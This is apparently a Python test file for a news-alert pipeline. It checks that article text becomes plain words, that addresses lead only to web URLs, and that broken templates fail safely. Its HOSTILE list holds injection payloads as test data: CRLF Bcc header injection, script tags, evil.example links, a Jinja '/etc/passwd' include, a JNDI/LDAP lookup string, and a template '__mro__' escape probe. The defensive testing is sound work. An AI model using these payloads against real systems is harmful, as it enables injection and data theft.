"""Nothing from an article can inject markup, headers or links into a message."""

from __future__ import annotations

import re
import unicodedata
from pathlib import Path

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from pipeline.alerts.rendering import Templates
from pipeline.domain.plain import address, words
from pipeline.errors import ConfigurationError

HOSTILE = [
    "Talks\r\nBcc: everyone@evil.example\r\n\r\nbody",
    "<script>alert(1)</script><a href='https://evil.example'>here</a>",
    "[click](https://evil.example) ![x](https://evil.example/x.png)",
    "<!channel> <@U123> <https://evil.example|our site> @everyone @here",
    "see www.evil.example or evil.example/path, or mailto:a@evil.example",
    "javascript:alert(1) data:text/html;base64,AAAA tel:+123",
    "**bold** __bold__ ~~no~~ `code` ||spoiler|| &lt;b&gt; &#60;",
    "right\u202eto left\u2066 zero\u200bwidth\u2060 \u2028new line\x00\x1b[31m",
    "# Heading #channel",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${jndi:ldap://evil.example}",
]
LINKS = re.compile(r"(?i)(?:https?|ftp|ldap)://|\bwww\.|\b(?:mailto|javascript|data|tel):|\w\.[a-z]{2,}|@\w")


def check(line: str) -> None:
    assert "\n" not in line
    assert "\r" not in line
    assert not set(line) & set("<>[]*_`~|@\\&#")
    assert not any(unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"} for char in line)
    assert LINKS.search(line) is None, line


@pytest.mark.parametrize("text", HOSTILE)
def test_known_attacks_are_words_only(text: str) -> None:
    check(words(text))


@settings(max_examples=500)
@given(st.text(alphabet=st.one_of(st.characters(), st.sampled_from("<>[]()@.:/\r\n wwwhtpsevilmj")), max_size=60))
@example("javascript" + "\u200b:x")
@example("www\u200b.a.bc")
@example("a.\u200bbc")
def test_any_text_becomes_words_only(text: str) -> None:
    check(words(text))


def test_news_can_still_be_read() -> None:
    text = "U.S. envoys (3.5 hours late) met at 10 a.m.: “no deal”, said Reuters."
    assert words(text) == text


@pytest.mark.parametrize(
    ("given_address", "safe"),
    [
        ("https://a.example/1?x=1&y=2#z", "https://a.example/1?x=1&y=2#z"),
        ("https://a.example/a b<c>(d)[e]|f", "https://a.example/a%20b%3Cc%3E%28d%29%5Be%5D%7Cf"),
        ("https://a.example/\r\nBcc: x", "https://a.example/Bcc:%20x"),
        ("javascript:alert(1)", ""),
        ("https://", ""),
        ("//evil.example", ""),
        (None, ""),
        ("http://[::1", ""),
    ],
)
def test_an_address_leads_to_the_web_and_nowhere_else(given_address: str | None, safe: str) -> None:
    assert address(given_address) == safe


@settings(max_examples=100)
@given(st.sampled_from(HOSTILE), st.sampled_from(HOSTILE), st.sampled_from([1, 2]))
def test_whole_messages_hold_nothing_of_an_article_but_words_and_its_address(one: str, other: str, count: int) -> None:
    message = {
        "kind": "rescheduled", "title": one, "before": other, "after": one, "quote": other, "place": one, "country": "GBR",
        "actors": [one, other], "outlet": one, "outlets": 2, "url": f"https://a.example/{one}", "link": "https://w.example/events/1",
    }  # fmt: skip
    title, text = Templates().render("My watch", [message] * count, "flood", "https://w.example/alerts")
    check(title)
    for line in text.splitlines():
        if not line.startswith(("https://a.example/", "https://w.example/")) and ": https://w.example/" not in line:
            check(line)
        assert "evil.example" not in line or line.startswith("https://a.example/")


def test_users_replace_templates_one_by_one(tmp_path: Path) -> None:
    (tmp_path / "title.txt").write_text("[desk] {{ alert.title | words }}")
    title, text = Templates(tmp_path).render("w", [{"kind": "created", "title": "Talks", "quote": "will talk"}])
    assert title == "[desk] Talks"
    assert text == "New: Talks\n“will talk”"


@pytest.mark.parametrize(
    "broken", ["{{ alert.nothing }}", "{% if %}", "{{ 1 / 0 }}", "{{ alert.__class__.__mro__ }}", "{{ words + 1 }}"]
)
def test_a_broken_template_is_named_and_reaches_no_further(tmp_path: Path, broken: str) -> None:
    (tmp_path / "message.txt").write_text(broken)
    with pytest.raises(ConfigurationError, match="template"):
        Templates(tmp_path).render("w", [{"kind": "created"}])
